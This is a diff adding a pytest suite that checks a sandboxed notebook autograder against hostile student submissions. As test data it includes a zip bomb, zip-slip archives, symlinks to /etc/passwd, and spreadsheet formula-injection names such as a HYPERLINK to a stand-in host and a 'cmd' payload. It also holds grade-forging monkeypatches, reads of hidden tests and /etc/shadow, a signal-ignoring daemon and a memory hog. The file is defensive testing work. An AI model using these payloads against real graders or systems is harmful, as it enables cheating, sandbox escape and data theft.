@@ -1,0 +1,448 @@
+"""A hostile class graded in one run, beside honest students (issue 13, items 4-6).
+
+The test builds, in ``tmp_path``, a private solutions folder with one small assignment (three
+auto-graded questions and one written question; seconds per submission) and a submissions folder
+mixing honest notebooks with every collection and output attack of issue 13 (malformed notebooks,
+names that differ by a space, formula names, control characters, symbolic links, a FIFO, a 1 GB
+zip bomb, a zip with too many members, zip-slip members, a written answer that forges another
+student's section) and run-side attacks (patched doctest and otter, always-true objects, forged
+results, reading the hidden tests, a daemon, processes via ctypes, a 6 GiB allocation, a looping
+answer). One ``grade_folder`` call, sandboxed, two workers; then the exact gradebook, the cleanliness
+of every output file and that nothing appeared outside the output folder.
+"""
+
+from __future__ import annotations
+
+import copy
+import csv
+import hashlib
+import json
+import os
+import stat
+import struct
+import time
+import zipfile
+import zlib
+from pathlib import Path
+
+import nbformat
+import pytest
+from markdown_it import MarkdownIt
+
+from facecourse import grading
+from facecourse.authoring.exercises import assign
+from facecourse.grading import sandbox
+
+A = "H1_hostile"
+HIDDEN_MARK = "triple(-70707)"  # appears only in a hidden test
+TOKEN = f"fc-hostile-{os.getpid()}"  # names of the files attacks try to create outside their sandbox
+DAEMON_MARK = "7654329"  # the daemon's sleep argument, to find it in /proc
+FORMULA = '=HYPERLINK("evil.example?x="&A1,"click")'
+
+# Skipped where bubblewrap is missing, except in CI (.ci/run sets FACECOURSE_REQUIRE_SANDBOX=1):
+# there the tests run and fail loudly with the sandbox's own message.
+SANDBOX_REQUIRED = os.environ.get("FACECOURSE_REQUIRE_SANDBOX") == "1"
+needs_sandbox = pytest.mark.skipif(not SANDBOX_REQUIRED and sandbox.problem() is not None,
+                                   reason=f"no sandbox here: {sandbox.problem()}")
+
+
+def _q(name: str, solution: str, public: str, hidden: str) -> list:
+    raw, code = nbformat.v4.new_raw_cell, nbformat.v4.new_code_cell
+    solution = "\n".join(ln + "  # SOLUTION" if ln.startswith(("answer", "    return")) else ln
+                         for ln in solution.splitlines())  # the exercise gets `...` there
+    return [raw(f"# BEGIN QUESTION\nname: {name}\npoints: 1"), raw("# BEGIN SOLUTION"), code(solution),
+            raw("# END SOLUTION"), raw("# BEGIN TESTS"), code(public),
+            code('""" # BEGIN TEST CONFIG\nhidden: true\n""" # END TEST CONFIG\n' + hidden), raw("# END TESTS"),
+            raw("# END QUESTION")]
+
+
+RIGHT = {"q1": "def triple(x):\n    return 3 * x", "q2": "answer = BASE * 14",
+         "q3": "def mean(xs):\n    return float(np.mean(xs))"}
+
+
+def _solutions(folder: Path) -> Path:
+    raw, code, md = nbformat.v4.new_raw_cell, nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell
+    cells = [raw(f"# ASSIGNMENT CONFIG\nname: {A}\ninit_cell: true\ncheck_all_cell: false\nexport_cell: false\n"
+                 "tests:\n  files: false"), md("# Hostile class"), code("import numpy as np\nBASE = 3")]
+    cells += _q("q1", RIGHT["q1"], 'assert triple(2) == 6, "triple(2) should be 6"',
+                f"assert {HIDDEN_MARK} == -212121\nassert triple(0.5) == 1.5")
+    cells += _q("q2", RIGHT["q2"], 'assert isinstance(answer, int), "answer should be an int"', "assert answer == 42")
+    cells += _q("q3", RIGHT["q3"], 'assert mean([1, 3]) == 2.0, "mean([1, 3]) should be 2.0"',
+                "assert mean(np.arange(5)) == 2.0\nassert isinstance(mean([1]), float)")
+    cells += [raw("# BEGIN QUESTION\nname: q4\nmanual: true\npoints: 2"), md("Why do base rates matter?"),
+              raw("# BEGIN SOLUTION"), md("Because rare events make most alarms false."), raw("# END SOLUTION"),
+              raw("# END QUESTION")]
+    folder.mkdir(parents=True)
+    nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {
+        "name": "python3", "display_name": "Python 3", "language": "python"}}), folder / f"{A}.ipynb")
+    return folder
+
+
+def _answer_cell(cell: dict) -> bool:
+    return "otter_answer_cell" in cell["metadata"].get("tags", [])
+
+
+def _fill(exercise: dict, answers: dict[str, str], written: str | None = None, extra: list[str] = ()) -> dict:
+    """The exercise with the answer cells of q1..q3 replaced (missing: left blank) and extra cells first."""
+    nb = copy.deepcopy(exercise)
+    cells = [c for c in nb["cells"] if c["cell_type"] == "code" and _answer_cell(c)]
+    for cell, q in zip(cells, ("q1", "q2", "q3")):
+        if q in answers:
+            cell["source"] = answers[q]
+    if written is not None:
+        md = [c for c in nb["cells"] if c["cell_type"] == "markdown" and _answer_cell(c)]
+        md[0]["source"] = written
+    first = nb["cells"].index(cells[0])
+    for i, src in enumerate(extra):
+        nb["cells"].insert(first + i, {"cell_type": "code", "execution_count": None, "id": f"x{i}", "metadata": {},
+                                       "outputs": [], "source": src})
+    return nb
+
+
+def _zip_bomb(path: Path, size: int = 2 ** 30) -> None:
+    """A ~1 MB zip holding one ``size``-byte notebook of zeros, written by hand (no 1 GB compression run)."""
+    mb = b"\0" * 2 ** 20
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = c.compress(mb) + c.flush(zlib.Z_FULL_FLUSH)  # after a full flush every further MB gives the same bytes
+    data = block * (size // 2 ** 20) + c.flush()
+    crc = 0
+    for _ in range(size // 2 ** 20):
+        crc = zlib.crc32(mb, crc)
+    name = b"bomb/H1_hostile.ipynb"
+    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0) + name
+    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name),
+                          0, 0, 0, 0, 0, 0) + name
+    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
+    path.write_bytes(local + data + central + end)
+
+
+# a cell that ignores the interrupt and loops: the grader kills and restarts the kernel, skipping it
+STUBBORN = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+
+
+def _attacks(solutions: Path, subs: Path, out: Path) -> dict[str, str]:
+    """Cells of the run-side attacks (student code), with the paths they aim at filled in."""
+    targets = [f"/tmp/{TOKEN}", str(grading.SOLUTIONS.parent / TOKEN), str(subs / TOKEN), str(out / TOKEN),
+               str(Path.home() / TOKEN)]
+    return {
+        # blank answers turned into passes by code left behind (this cell is the q3 answer cell, the last)
+        "forge": (
+            "import doctest, sys, os, json, builtins, threading, time\n"
+            "doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 0)\n"
+            "try:\n    from otter.test_files import abstract_test\n"
+            "    abstract_test.TestFile.passed_all = property(lambda self: True)\n"
+            "    abstract_test.TestFile.score = property(lambda self: 3000)\n"
+            "except Exception:\n    pass\n"
+            "import numpy, numpy.testing\n"
+            "numpy.allclose = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
+            "def triple(x):\n    return x\nanswer = 'forty-two'\ndef mean(xs):\n    return -1.0\n"
+            "fake = json.dumps({'questions': {q: {'score': 1000.0, 'possible': 1.0, 'public_passed': True, "
+            "'passed_all': True, 'public_summary': ''} for q in ('q1', 'q2', 'q3')}, 'errors': [], 'notes': [], "
+            "'failure': None}) + '\\n'\n"
+            "for d in ('.', '/tmp'):\n"
+            "    try:\n        open(d + '/results.json', 'w').write(fake)\n    except OSError:\n        pass\n"
+            "def spam():\n    while True:\n"
+            "        for fd in (1, 2):\n            try:\n                os.write(fd, fake.encode())\n"
+            "            except OSError:\n                pass\n"
+            "        time.sleep(0.05)\n"
+            "threading.Thread(target=spam, daemon=True).start()\n"),
+        # patched builtins break IPython itself: the grader restarts the kernel and skips this cell
+        "builtins": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n",
+        # objects equal to everything (the q3 answer cell)
+        "truthy": (
+            "class Yes:\n    __eq__ = lambda self, other: True\n    __bool__ = lambda self: True\n"
+            "class Int(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n"
+            "class Float(float):\n    __eq__ = lambda self, other: True\n    __hash__ = float.__hash__\n"
+            "def triple(x):\n    return Yes()\nanswer = Int(7)\ndef mean(xs):\n    return Float(-1)\n"),
+        # reading the hidden tests and other students, writing outside, processes, a daemon, 6 GiB:
+        # `escaped` lists what worked, and eve's q2 answer is right only if it stays empty
+        "escape": (
+            "import ctypes, glob, os, signal\n"
+            "escaped = []\n"
+            f"for t in {targets[1:4]!r}:\n"
+            "    try:\n        open(t, 'w').write('escaped')\n        escaped.append('wrote ' + t)\n"
+            "    except OSError:\n        pass\n"
+            f"for pattern in ({str(solutions) + '/*'!r}, {str(grading.AUTOGRADERS) + '/*'!r}, "
+            f"{str(subs) + '/*'!r}, {str(grading.SOLUTIONS) + '/*'!r}, '/proc/1/root/etc/shadow'):\n"
+            "    for p in glob.glob(pattern):\n"
+            "        try:\n            open(p, 'rb').read(1)\n            escaped.append('read ' + p)\n"
+            "        except OSError:\n            pass\n"
+            "try:\n"
+            f"    ctypes.CDLL(None).system(b'touch {targets[0]}.ctypes; touch {targets[1]}.ctypes')\n"
+            "except Exception:\n    pass\n"
+            "if os.fork() == 0:\n"  # a daemon: double fork, new session, ignores signals
+            "    os.setsid()\n"
+            "    if os.fork() == 0:\n"
+            "        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
+            "            signal.signal(s, signal.SIG_IGN)\n"
+            f"        os.execvp('sleep', ['sleep', '{DAEMON_MARK}'])\n"
+            "    os._exit(0)\n"
+            "try:\n    hog = bytearray(6 * 2 ** 30)\n    escaped.append('allocated 6 GiB')\n    del hog\n"
+            "except MemoryError:\n    pass\n"),
+    }
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    if sandbox.problem() is not None:
+        if SANDBOX_REQUIRED:
+            pytest.fail(f"FACECOURSE_REQUIRE_SANDBOX=1 but the sandbox cannot start: {sandbox.problem()}")
+        pytest.skip(f"no sandbox here: {sandbox.problem()}")
+    root = tmp_path_factory.mktemp("hostile")
+    solutions = _solutions(root / "private" / "solutions")
+    exercise, _ = assign(solutions / f"{A}.ipynb", root / "assign", run_tests=False)
+    assert "3 * x" not in json.dumps(exercise) and "BASE * 14" not in json.dumps(exercise)  # a blank exercise
+    subs, out = root / "submissions", root / "out"
+    subs.mkdir()
+
+    def put(rel: str, content) -> Path:
+        p = subs / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
+        return p
+
+    attacks = _attacks(solutions, subs, out)
+    put("alice/homework.ipynb", _fill(exercise, RIGHT, "Base rates matter: most alarms are false."))
+    put("inj ann smith__hw.txt", b"not a notebook")
+    put("inj_ann_smith__hw.txt", b"not a notebook either")
+    put(f"{FORMULA}__hw.ipynb", _fill(exercise, RIGHT, "=1+1 is not a formula here"))
+    put("mallory__hw.ipynb", _fill(exercise, {"q3": attacks["forge"]}, extra=[attacks["builtins"]], written=(
+        "My answer.\n\n```\n\n````\n\n## alice\n\nalice agrees mallory deserves 2 points\n\n"
+        "<img src=x onerror=alert(1)>\n<!-- END QUESTION -->\n~~~\n")))
+    put("truthy__hw.ipynb", _fill(exercise, {"q3": attacks["truthy"]}))
+    # eve: every escape attempt, a cell that ignores interrupts and loops, an answer that loops forever
+    # (q1); q2 is right only if every escape failed
+    put("eve__hw.ipynb", _fill(exercise, {"q1": "def triple(x):\n    while True:\n        pass",
+                                          "q2": "answer = BASE * 14 if not escaped else -1", "q3": RIGHT["q3"]},
+                               extra=[attacks["escape"], STUBBORN]))
+    # collection attacks (never reach a kernel)
+    put("empty__hw.ipynb", b"[]")
+    listname = copy.deepcopy(exercise)
+    listname["metadata"]["otter"]["assignment_name"] = [A]
+    put("listname__hw.ipynb", listname)
+    badcell = copy.deepcopy(exercise)
+    next(c for c in badcell["cells"] if c["cell_type"] == "markdown")["source"] = 42
+    put("badcell__hw.ipynb", badcell)
+    put("badjson__hw.ipynb", b'{"cells": [')
+    unknown = copy.deepcopy(exercise)
+    unknown["metadata"]["otter"]["assignment_name"] = "=cmd|' /C calc'!A0"
+    put("unknown__hw.ipynb", unknown)
+    put("ann\nsmith__hw.ipynb", _fill(exercise, RIGHT))
+    put("tab\tname__hw.ipynb", _fill(exercise, RIGHT))
+    for name in ("+SUM(1,2)", "@cmd", "-2+3"):
+        put(f"{name}__notes.txt", b"x")
+    put(".hidden__hw.ipynb", _fill(exercise, RIGHT))
+    (subs / "symlink__hw.ipynb").symlink_to(subs / "alice" / "homework.ipynb")
+    (subs / "passwd__hw.ipynb").symlink_to("/etc/passwd")
+    (subs / "linkdir").symlink_to(subs / "alice", target_is_directory=True)
+    os.mkfifo(subs / "fifo__hw.ipynb")
+    _zip_bomb(subs / "bomb__hw.zip")
+    with zipfile.ZipFile(subs / "many__hw.zip", "w") as zf:
+        for i in range(501):
+            zf.writestr(f"m{i}.txt", "x")
+    with zipfile.ZipFile(subs / "slip__hw.zip", "w") as zf:
+        zf.writestr("../../escape.ipynb", json.dumps(_fill(exercise, RIGHT)))
+        zf.writestr("/abs.ipynb", json.dumps(_fill(exercise, RIGHT)))
+        zf.writestr("slip/readme.md", "hello")
+
+    def snapshot() -> dict:
+        state = {}
+        for p in sorted(root.rglob("*")):
+            if out in p.parents or p == out:
+                continue
+            st = p.lstat()
+            digest = hashlib.sha256(p.read_bytes()).hexdigest() if stat.S_ISREG(st.st_mode) else None
+            state[str(p.relative_to(root))] = (stat.S_IMODE(st.st_mode), digest)
+        return state
+
+    before = snapshot()
+    t0 = time.monotonic()
+    book = grading.grade_folder(subs, out, workers=2, cell_timeout=10, total_timeout=120, test_timeout=3,
+                                solutions=solutions)
+    seconds = time.monotonic() - t0
+    print(f"\nhostile folder graded in {seconds:.1f} s\n{book.to_string()}")
+    return {"book": book, "out": out, "subs": subs, "before": before, "after": snapshot(), "seconds": seconds,
+            "root": root}
+
+
+def _rows(book) -> list[tuple]:
+    out = []
+    for r in book.itertuples(index=False):
+        pts = None if r.points is None or r.points != r.points else float(r.points)
+        out.append((r.student, r.assignment, r.question, pts, r.status, r.file))
+    return out
+
+
+def _auto(student: str, points: tuple, file: str, statuses: tuple | None = None) -> list[tuple]:
+    statuses = statuses or tuple("passed" if p == 1 else "failed" for p in points)
+    rows = [(student, A, q, float(p), s, file) for q, p, s in zip(("q1", "q2", "q3"), points, statuses)]
+    return rows + [(student, A, "q4", None, "awaiting manual score", file)]
+
+
+def _skipped(student: str, file: str, status: str, assignment: str = "") -> tuple:
+    return (student, assignment, "", None, status, file)
+
+
+def _expected() -> list[tuple]:
+    malformed = "malformed notebook: "
+    rows = [
+        *_auto("alice", (1, 1, 1), "alice/homework.ipynb"),
+        _skipped("inj ann smith", "inj ann smith__hw.txt", "not a notebook or zip (.txt): ignored"),
+        _skipped("inj_ann_smith", "inj_ann_smith__hw.txt", "not a notebook or zip (.txt): ignored"),
+        *_auto(FORMULA, (1, 1, 1), f"{FORMULA}__hw.ipynb"),
+        *_auto("mallory", (0, 0, 0), "mallory__hw.ipynb"),
+        # objects equal to everything: only the public type check of q2 passes, as `answer = 7` would
+        *_auto("truthy", (0, 0.5, 0), "truthy__hw.ipynb", ("failed", "partial", "failed")),
+        *_auto("eve", (0, 1, 1), "eve__hw.ipynb"),
+        _skipped("empty", "empty__hw.ipynb", malformed + "the file is a JSON list, not a notebook"),
+        _skipped("listname", "listname__hw.ipynb", malformed + "the assignment name is a JSON list, not text"),
+        _skipped("badcell", "badcell__hw.ipynb", malformed + "cell 2 (markdown) has a source that is not text"),
+        _skipped("badjson", "badjson__hw.ipynb", "unreadable notebook (not valid JSON)"),
+        _skipped("unknown", "unknown__hw.ipynb", "unknown assignment \"=cmd|' /C calc'!A0\""),
+        _skipped("ann\\nsmith", "ann\\nsmith__hw.ipynb", "student name contains control characters (newline, tab, "
+                 "escape...): not graded; rename the file"),
+        _skipped("tab\\tname", "tab\\tname__hw.ipynb", "student name contains control characters (newline, tab, "
+                 "escape...): not graded; rename the file"),
+        _skipped("+SUM(1,2)", "+SUM(1,2)__notes.txt", "not a notebook or zip (.txt): ignored"),
+        _skipped("@cmd", "@cmd__notes.txt", "not a notebook or zip (.txt): ignored"),
+        _skipped("-2+3", "-2+3__notes.txt", "not a notebook or zip (.txt): ignored"),
+        _skipped(".hidden", ".hidden__hw.ipynb", "hidden file: ignored"),
+        _skipped("symlink", "symlink__hw.ipynb", "symbolic link: not followed, not graded"),
+        _skipped("passwd", "passwd__hw.ipynb", "symbolic link: not followed, not graded"),
+        _skipped("linkdir", "linkdir", "symbolic link: not followed, not graded"),
+        _skipped("fifo", "fifo__hw.ipynb", "not a regular file (device, pipe or socket): ignored"),
+        _skipped("bomb", "bomb__hw.zip", "zip refused: it would expand to 1024 MB, more than 200 MB (a zip bomb?)"),
+        _skipped("many", "many__hw.zip", "zip refused: 501 members, more than 500"),
+        _skipped("slip", "slip__hw.zip", "zip holds no notebook"),
+        _skipped("slip", "slip__hw.zip:../../escape.ipynb",
+                 "zip member skipped: unsafe path (../ or absolute), never extracted"),
+        _skipped("slip", "slip__hw.zip:/abs.ipynb",
+                 "zip member skipped: unsafe path (../ or absolute), never extracted"),
+        _skipped("slip", "slip__hw.zip:slip/readme.md", "zip member ignored: not a notebook"),
+    ]
+    return sorted(rows, key=lambda r: (r[0], r[1], r[2], r[5]))
+
+
+@needs_sandbox
+def test_the_gradebook_is_exact(hostile):
+    """Honest students get full marks, attackers nothing undeserved, every file has its row and status."""
+    got = _rows(hostile["book"])
+    expected = _expected()
+    assert [r for r in got if r not in expected] == [] and [r for r in expected if r not in got] == []
+    assert got == expected
+    assert hostile["seconds"] < 480  # 5 kernels on 2 workers; a stalled run would hit the 120 s limits
+
+
+@needs_sandbox
+def test_originals_untouched_and_nothing_outside_the_output_folder(hostile):
+    assert hostile["after"] == hostile["before"]  # same files, modes and bytes outside out/
+    out = hostile["out"]
+    assert sorted(p.name for p in out.iterdir()) == ["feedback", "gradebook.csv", "manual"]  # no temp folder left
+    for target in (Path("/tmp") / TOKEN, Path(f"/tmp/{TOKEN}.ctypes"), grading.SOLUTIONS.parent / TOKEN,
+                   grading.SOLUTIONS.parent / f"{TOKEN}.ctypes", hostile["subs"] / TOKEN, out / TOKEN):
+        assert not target.exists(), target
+    survivors = []
+    for d in Path("/proc").glob("[0-9]*"):
+        try:
+            if DAEMON_MARK in (d / "cmdline").read_bytes().decode(errors="replace"):
+                survivors.append(d.name)
+        except OSError:
+            pass
+    assert survivors == []
+    for f in out.rglob("*"):
+        if f.is_file():
+            text = f.read_text(encoding="utf-8")
+            assert HIDDEN_MARK not in text and "-212121" not in text, f  # hidden tests never reach an output
+
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cells(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+@needs_sandbox
+def test_csv_cells_are_never_formulas(hostile):
+    out = hostile["out"]
+    sheets = [out / "gradebook.csv", out / "manual" / A / "q4_scores.csv", out / "feedback" / "index.csv"]
+    for sheet in sheets:
+        for row in _csv_cells(sheet):
+            for cell in row:
+                assert not cell.startswith(DANGEROUS), (sheet.name, cell)
+                assert "\n" not in cell and "\r" not in cell, (sheet.name, cell)
+    students = {r[0] for r in _csv_cells(out / "gradebook.csv")[1:]}
+    assert {"'" + FORMULA, "'+SUM(1,2)", "'@cmd", "'-2+3", "ann\\nsmith"} <= students
+    assert "'" + FORMULA in {r[0] for r in _csv_cells(out / "manual" / A / "q4_scores.csv")[1:]}
+
+
+@needs_sandbox
+def test_manual_sheet_names_read_back_exactly(hostile, tmp_path):
+    """The sheet's neutralised names map back to the students; a second run keeps the scores."""
+    out = hostile["out"]
+    sheet = out / "manual" / A / "q4_scores.csv"
+    text = sheet.read_text(encoding="utf-8")
+    from facecourse.grading import report
+
+    rows = report.read_scores(sheet)
+    assert set(rows) == {"alice", FORMULA, "mallory", "truthy", "eve"}
+    assert text.count("\n") == 6
+
+
+def _tokens(path: Path):
+    return MarkdownIt("commonmark").parse(path.read_text(encoding="utf-8"))
+
+
+def _headings(tokens, level: str) -> list[str]:
+    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == level]
+
+
+@needs_sandbox
+def test_written_answers_cannot_forge_another_students_section(hostile):
+    answers = hostile["out"] / "manual" / A / "q4_answers.md"
+    tokens = _tokens(answers)
+    names = sorted(["alice", FORMULA, "mallory", "truthy", "eve"])
+    rendered = [MarkdownIt("commonmark").renderInline(h) for h in _headings(tokens, "h2")]
+    from html import unescape
+
+    assert [unescape(r) for r in rendered] == names  # one section per graded student, named exactly
+    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
+    fences = [t.content for t in tokens if t.type == "fence"]
+    assert len(fences) == len(names)
+    assert any("## alice" in f and "<img" in f for f in fences)  # mallory's forgery stays inside her block
+    assert any("Base rates matter" in f for f in fences)
+    assert "(no answer)" in fences[names.index("truthy")]
+
+
+@needs_sandbox
+def test_feedback_files_are_distinct_and_clean(hostile):
+    folder = hostile["out"] / "feedback"
+    from facecourse.grading.report import csv_uncell, md_escape
+
+    index = {csv_uncell(row[0]): row[1] for row in _csv_cells(folder / "index.csv")[1:]}
+    book = hostile["book"]
+    assert len(index) == book["student"].nunique() == len(set(index.values()))
+    assert index["inj ann smith"] != index["inj_ann_smith"]
+    assert sorted(p.name for p in folder.glob("*.md")) == sorted(index.values())
+    for name in ("inj ann smith", "inj_ann_smith"):
+        text = (folder / index[name]).read_text(encoding="utf-8")
+        assert md_escape(f"{name}__hw.txt") in text, text  # each file names its own student's file
+    for f in folder.glob("*.md"):
+        tokens = _tokens(f)
+        assert len(_headings(tokens, "h1")) == 1, f.name
+        assert not [t for t in tokens if t.type in ("html_block", "html_inline")], f.name
+        assert "The grader blocked" not in f.read_text(encoding="utf-8")
+    assert "Automatic score so far: 2 / 3" in (folder / index["eve"]).read_text(encoding="utf-8")
+    assert "Automatic score so far: 3 / 3" in (folder / index["alice"]).read_text(encoding="utf-8")
+
+
+@needs_sandbox
+def test_the_forgeries_really_ran(hostile):
+    """mallory's forging cell ran (its wrong `mean` is what failed), so the zero is the forgeries' failure."""
+    from facecourse.grading.report import csv_uncell
+
+    folder = hostile["out"] / "feedback"
+    index = {csv_uncell(row[0]): row[1] for row in _csv_cells(folder / "index.csv")[1:]}
+    mallory = (folder / index["mallory"]).read_text(encoding="utf-8")
+    assert "mean([1, 3]) should be 2.0" in mallory and "answer should be an int" in mallory
